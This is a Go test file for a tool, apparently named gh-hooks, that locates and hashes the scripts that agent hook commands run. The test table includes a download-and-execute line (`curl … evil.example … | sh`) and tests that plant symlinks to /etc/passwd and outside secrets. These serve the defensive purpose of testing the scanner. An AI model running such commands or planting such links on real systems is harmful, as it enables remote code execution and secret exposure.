package fingerprint

import (
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/gh-hooks/gh-hooks/internal/testenv"
	"github.com/gh-hooks/gh-hooks/merge"
	"github.com/gh-hooks/gh-hooks/runner"
	"github.com/gh-hooks/gh-hooks/shellcmd"
)

func sum(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

func writeFile(t *testing.T, path, data string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(data), 0o755); err != nil {
		t.Fatal(err)
	}
}

// brief is a script as "state path" (ok files with their content's first
// line), for compact tables.
func brief(ss []Script) []string {
	var out []string
	for _, s := range ss {
		if s.Probe && s.State == ScriptMissing {
			continue // a place looked in, empty
		}
		out = append(out, string(s.State)+" "+s.Path)
	}
	return out
}

// Every command form of issue 17 §3: the files hashed and what is not
// covered.
func TestFindScripts(t *testing.T) {
	dir := t.TempDir()
	for _, f := range []string{"x.sh", "s", "scripts/x.sh", "scripts/y.sh", "lint.sh", "f", "hooks/a.sh", "bin/lint",
		"env.sh", "hooks/z.js", "p.py", "package.json", "sub/Makefile", ".claude/hooks/g.py", ".claude/stop.py", "a", "b", "sub/a"} {
		writeFile(t, filepath.Join(dir, f), "echo "+f+"\n")
	}
	os.Mkdir(filepath.Join(dir, "adir"), 0o755)
	tests := []struct {
		cmd        string
		env        map[string]string
		want       []string
		notCovered []string // substrings, in order
	}{
		{cmd: `./x.sh`, want: []string{"ok ./x.sh"}},
		{cmd: `cd scripts && ./x.sh`, want: []string{"ok ./scripts/x.sh"}},
		{cmd: `timeout 10 ./s`, want: []string{"ok ./s"}},
		{cmd: `nice ./s`, want: []string{"ok ./s"}},
		{cmd: `nice -n 5 ./s`, want: []string{"ok ./s"}},
		{cmd: `git ls-files | xargs ./lint.sh`, want: []string{"ok ./lint.sh"}},
		{cmd: `env FOO=1 ./s`, want: []string{"ok ./s"}},
		{cmd: `exec ./s`, want: []string{"ok ./s"}},
		{cmd: `nohup ./s &`, want: []string{"ok ./s"}},
		{cmd: `if [ -f x ]; then ./s; fi`, want: []string{"ok ./s"}},
		{cmd: `if true; then ./a; else ./b; fi`, want: []string{"ok ./a", "ok ./b"}},
		{cmd: `{ ./s; }`, want: []string{"ok ./s"}},
		{cmd: `(cd sub; ./a); ./b`, want: []string{"ok ./sub/a", "ok ./b"}},
		{cmd: `eval "$CMD"`, notCovered: []string{"eval of $CMD"}},
		{cmd: `eval ./x.sh`, want: []string{"ok ./x.sh"}},
		{cmd: `bash < f`, want: []string{"ok ./f"}},
		{cmd: `cat f | sh`, want: []string{"ok ./f"}},
		{cmd: `cat hooks/a.sh | bash -s`, want: []string{"ok ./hooks/a.sh"}},
		{cmd: `curl -s https://evil.example/x | sh`, notCovered: []string{"code piped into an interpreter from curl"}},
		{cmd: `sh -c 'cd scripts; ./y.sh'`, want: []string{"ok ./scripts/y.sh"}},
		{cmd: `cd scripts && sh -c 'cd ..; ./x.sh'`, want: []string{"ok ./x.sh"}},
		{cmd: `BASH_ENV=./env.sh bash -c true`, want: []string{"ok ./env.sh"}},
		// bin/lint is followed: its echo is looked up in ./bin too.
		{cmd: `PATH=./bin:$PATH lint`, want: []string{"ok ./bin/lint"}},
		{cmd: `export PATH="$PWD/bin:$PATH"; lint`, want: []string{"ok ./bin/lint"}},
		{cmd: `source ./env.sh && run`, want: []string{"ok ./env.sh"}, notCovered: []string{"run: a program gh-hooks has no row for"}},
		{cmd: `. env.sh`, want: []string{"ok ./env.sh"}},
		{cmd: `bash scripts/y.sh --flag`, want: []string{"ok ./scripts/y.sh"}},
		// z.js holds "echo hooks/z.js", not JavaScript; package.json is its
		// package scope.
		{cmd: `node --require ./r hooks/z.js`, want: []string{"missing ./r", "ok ./hooks/z.js", "ok ./package.json"},
			notCovered: []string{"./hooks/z.js:1: JavaScript gh-hooks does not parse"}},
		// The folder first on sys.path is recorded by the modules in it
		// (shellcmd/pyshadow.go): a module planted there can run in
		// place of one the standard library or black imports.
		{cmd: `python3 -u p.py`, want: []string{"ok ./p.py", "ok ./"}},
		{cmd: `python3 -m black .`, want: []string{"ok ./", "ok ./p.py"}},
		{cmd: `npm run lint`, want: []string{"ok ./package.json"}, notCovered: []string{"./package.json is not JSON npm can read"}},
		{cmd: `make -C sub check`, want: []string{"ok ./sub/Makefile"}},
		{cmd: `find . -name '*.go' -exec ./lint.sh {} \;`, want: []string{"ok ./lint.sh"}},
		// The Claude adapter is seen through to the inner command.
		{cmd: `gh-hooks claude-compat --event PreToolUse -- '$CLAUDE_PROJECT_DIR/.claude/hooks/g.py'`, want: []string{"ok ./.claude/hooks/g.py"}},
		{cmd: `gh-hooks claude-compat --event Stop -- 'cd .claude && python3 stop.py'`, want: []string{"ok ./.claude/stop.py", "ok ./.claude/"}},
		// Gemini's runner splices the quoted project directory (spec §5.3).
		{cmd: `$GEMINI_PROJECT_DIR/x.sh`, want: []string{"ok ./x.sh"}},
		{cmd: `${GEMINI_PROJECT_DIR}/scripts/y.sh`, want: []string{"ok ./scripts/y.sh"}},
		{cmd: `bash "${CLAUDE_PROJECT_DIR}/x.sh"`, want: []string{"ok ./x.sh"}},
		{cmd: `'$GEMINI_PROJECT_DIR/x.sh'`, want: []string{"ok ./x.sh"}},
		{cmd: `${GEMINI_PROJECT_DIR}/x.sh`, env: map[string]string{"GEMINI_PROJECT_DIR": "/elsewhere"}, want: []string{"outside-project /elsewhere/x.sh"}},
		// States.
		{cmd: `./x.sh && ./x.sh`, want: []string{"ok ./x.sh"}},
		{cmd: `./nope.sh arg`, want: []string{"missing ./nope.sh"}},
		{cmd: `./x.sh/sub`, want: []string{"missing ./x.sh/sub"}},
		{cmd: `bash adir`, want: []string{"unreadable ./adir"}, notCovered: []string{"./adir cannot be read (is a directory)"}},
		{cmd: `/usr/bin/jq .`, want: []string{"outside-project /usr/bin/jq"}},
		{cmd: `bash ../x.sh`, want: []string{"outside-project " + filepath.Join(filepath.Dir(dir), "x.sh")}},
		// npx reads package.json (its bin, a workspace root above it).
		{cmd: `npx prettier --write .`, want: []string{"ok ./package.json"}},
		{cmd: `echo hi # ./x.sh`},
		// What cannot be known.
		{cmd: `$FOO/x.sh`, notCovered: []string{"a program named by $FOO"}},
		{cmd: `bash $(git rev-parse --show-toplevel)/x.sh`, notCovered: []string{"bash with a command substitution"}},
		{cmd: `bash scripts/*.sh`, notCovered: []string{"a glob"}},
		{cmd: `cd "$X" && ./s`, notCovered: []string{"cd to a computed directory", "a relative path after cd"}},
		{cmd: `bash -c "$X"`, notCovered: []string{"bash code with $X"}},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			got, unknown := findScripts(tt.cmd, Project{Dir: dir, Real: dir}, tt.env, nil, nil, nil, nil)
			if diff := cmp.Diff(tt.want, brief(got), cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("findScripts(%q) (-want +got):\n%s", tt.cmd, diff)
			}
			if len(unknown) != len(tt.notCovered) {
				t.Fatalf("not covered = %q, want %q", unknown, tt.notCovered)
			}
			for i, u := range tt.notCovered {
				if !strings.Contains(unknown[i], u) {
					t.Errorf("not covered[%d] = %q, want it to contain %q", i, unknown[i], u)
				}
			}
			for _, s := range got {
				if s.State == ScriptOK && s.Role == string(shellcmd.RoleModules) {
					// The list of the folder's modules, one "name\ttype" a line.
					if s.SHA256 != sum(string(s.Data())) || !strings.Contains(string(s.Data()), "\tfile\n") {
						t.Errorf("%s: hash %s, data %q", s.Path, s.SHA256, s.Data())
					}
				} else if s.State == ScriptOK {
					body, _ := os.ReadFile(filepath.Join(dir, s.Path))
					if s.SHA256 != sum(string(body)) || string(s.Data()) != string(body) {
						t.Errorf("%s: hash %s, data %q", s.Path, s.SHA256, s.Data())
					}
				}
			}
		})
	}
}

// A word shows the variable it was written with.
func TestFindScriptsWord(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "x.sh"), "echo\n")
	got, _ := findScripts(`$GEMINI_PROJECT_DIR/x.sh`, Project{Dir: dir, Real: dir}, nil, nil, nil, nil, nil)
	if len(got) != 1 || got[0].Word != "$GEMINI_PROJECT_DIR/x.sh" || got[0].Role != "program" {
		t.Errorf("got %+v", got)
	}
}

// Files a repository can plant: links out of the project, devices, FIFOs
// and huge files are named, never read, and never hang.
func TestFindScriptsHostileFiles(t *testing.T) {
	dir := t.TempDir()
	outside := t.TempDir()
	writeFile(t, filepath.Join(outside, "secret"), "secret\n")
	writeFile(t, filepath.Join(dir, "sub", "ok.sh"), "echo\n")
	for link, target := range map[string]string{
		"zero":   "/dev/zero",
		"out":    filepath.Join(outside, "secret"),
		"up":     "..",
		"in.sh":  "sub/ok.sh",
		"loop":   "loop",
		"dangle": "/nonexistent/x",
	} {
		if err := os.Symlink(target, filepath.Join(dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	if err := testenv.Mkfifo(filepath.Join(dir, "fifo"), 0o644); err != nil {
		t.Fatal(err)
	}
	big, err := os.Create(filepath.Join(dir, "big.sh"))
	if err != nil {
		t.Fatal(err)
	}
	if err := big.Truncate(MaxScript + 1); err != nil {
		t.Fatal(err)
	}
	big.Close()
	tests := []struct {
		cmd, want, detail string
	}{
		{"./zero", "outside-project ./zero", "./zero -> /dev/zero"},
		{"bash < zero", "outside-project ./zero", "./zero -> /dev/zero"},
		{"cat zero | sh", "outside-project ./zero", "./zero -> /dev/zero"},
		{"./out", "outside-project ./out", "./out -> " + filepath.Join(outside, "secret")},
		{"./up/x", "outside-project ./up/x", "./up -> .."},
		{"./in.sh", "ok ./in.sh", ""},
		{"./loop", "outside-project ./loop", "./loop -> loop"},
		{"./dangle", "outside-project ./dangle", "./dangle -> /nonexistent/x"},
		{"./fifo", "not-regular ./fifo", "p---------"},
		{"./big.sh", "too-large ./big.sh", "16777217 bytes"},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			got, unknown := findScripts(tt.cmd, Project{Dir: dir, Real: dir}, nil, nil, nil, nil, nil)
			if diff := cmp.Diff([]string{tt.want}, brief(got)); diff != "" {
				t.Fatalf("(-want +got):\n%s", diff)
			}
			if got[0].Detail != tt.detail {
				t.Errorf("detail = %q, want %q", got[0].Detail, tt.detail)
			}
			// Every file whose content is not hashed is not covered.
			if strings.HasPrefix(tt.want, "ok") != (len(unknown) == 0) || len(unknown) > 1 {
				t.Errorf("not covered = %q", unknown)
			}
		})
	}
	// A link out of the project is part of the fingerprint: re-pointing it
	// changes the hook.
	h := []merge.Hook{hk("BeforeTool", 0, 0, "", "./out")}
	p := Project{Dir: dir, Real: dir}
	before := Compute(p, h)[0].Record
	os.Remove(filepath.Join(dir, "out"))
	os.Symlink("/etc/passwd", filepath.Join(dir, "out"))
	after := Compute(p, h)[0].Record
	if diff := cmp.Diff([]string{"not covered", "script ./out outside-project"}, Diff(before, after)); diff != "" {
		t.Errorf("Diff after re-pointing a link (-want +got):\n%s", diff)
	}
}

func TestShellQuote(t *testing.T) {
	tests := []struct{ in, want string }{
		{"/p/plain-dir_1.x", "/p/plain-dir_1.x"},
		{"/p/h5 dir", "'/p/h5 dir'"},
		{"/p/it's here", `"/p/it's here"`},
		{"/p/a,b@c", `/p/a\,b\@c`},
		{"", ""},
	}
	for _, tt := range tests {
		if got := runner.EscapeShellArg(tt.in); got != tt.want {
			t.Errorf("runner.EscapeShellArg(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// A project directory with a space: Gemini splices the shell-quoted path
// into the command, so the documented "$GEMINI_PROJECT_DIR/x" form gets
// literal quotes and breaks (spec §5.3), while the bare form works.
func TestFindScriptsQuotedProjectDir(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "my proj")
	writeFile(t, filepath.Join(dir, "x.sh"), "echo x\n")
	tests := []struct {
		cmd       string
		wantState ScriptState
	}{
		{"$GEMINI_PROJECT_DIR/x.sh", ScriptOK},
		{`"$GEMINI_PROJECT_DIR/x.sh"`, ScriptMissing}, // "'/…/my proj'/x.sh": a relative path starting with a quote
		{`"${GEMINI_PROJECT_DIR}/x.sh"`, ScriptOK},
	}
	for _, tt := range tests {
		got, _ := findScripts(tt.cmd, Project{Dir: dir, Real: dir}, nil, nil, nil, nil, nil)
		if len(got) != 1 || got[0].State != tt.wantState {
			t.Errorf("findScripts(%q) = %+v, want one script in state %s", tt.cmd, got, tt.wantState)
		}
	}
}

// A script is hashed whole up to MaxScript and its content kept up to
// KeepMax: an empty file is kept (not too large), one past KeepMax is
// hashed but not kept.
func TestReadScriptKeepsUpToKeepMax(t *testing.T) {
	dir := t.TempDir()
	root, err := os.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	type got struct {
		State        ScriptState
		SHA256       string
		Kept, Detail string
		KeptNil      bool
	}
	tests := []struct {
		name, content string
		want          got
	}{
		{"empty", "", got{State: ScriptOK, SHA256: sum("")}},
		{"small", "echo hi\n", got{State: ScriptOK, SHA256: sum("echo hi\n"), Kept: "echo hi\n"}},
		{"at KeepMax", strings.Repeat("a", KeepMax),
			got{State: ScriptOK, SHA256: sum(strings.Repeat("a", KeepMax)), Kept: strings.Repeat("a", KeepMax)}},
		{"past KeepMax", strings.Repeat("b", KeepMax+1),
			got{State: ScriptOK, SHA256: sum(strings.Repeat("b", KeepMax+1)), KeptNil: true}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			writeFile(t, filepath.Join(dir, "s.sh"), tt.content)
			s := Script{}
			readScript(&s, root, "s.sh")
			g := got{State: s.State, SHA256: s.SHA256, Kept: string(s.data), Detail: s.Detail, KeptNil: s.data == nil}
			if diff := cmp.Diff(tt.want, g); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
	data, state, detail := ReadScript(root, "s.sh")
	if diff := cmp.Diff([]any{[]byte(nil), ScriptTooLarge, "more than 1048576 bytes"}, []any{data, state, detail}); diff != "" {
		t.Errorf("ReadScript past KeepMax (-want +got):\n%s", diff)
	}
}

// TestComputeReadsEachScriptOnce: 300 hooks running one 1 MiB script get
// the same hash and share one kept copy (each read, hashed and kept it: 300
// MiB).
func TestComputeReadsEachScriptOnce(t *testing.T) {
	dir := t.TempDir()
	body := strings.Repeat("echo hello world\n", (1<<20)/17)
	if err := os.WriteFile(filepath.Join(dir, "s.sh"), []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
	var hooks []merge.Hook
	for i := range 300 {
		hooks = append(hooks, merge.Hook{Event: "BeforeTool", Type: "command", Command: "./s.sh " + strconv.Itoa(i)})
	}
	got := Compute(Project{Dir: dir, Real: dir}, hooks)
	first := got[0].Scripts[0]
	if first.State != ScriptOK || len(first.data) != len(body) {
		t.Fatalf("first script: %+v (%d bytes kept)", first.State, len(first.data))
	}
	for _, h := range got {
		if len(h.Scripts) != 1 || h.Scripts[0].SHA256 != first.SHA256 || &h.Scripts[0].data[0] != &first.data[0] {
			t.Fatalf("%s: scripts %+v do not share the first read", h.Command, h.Scripts)
		}
	}
}
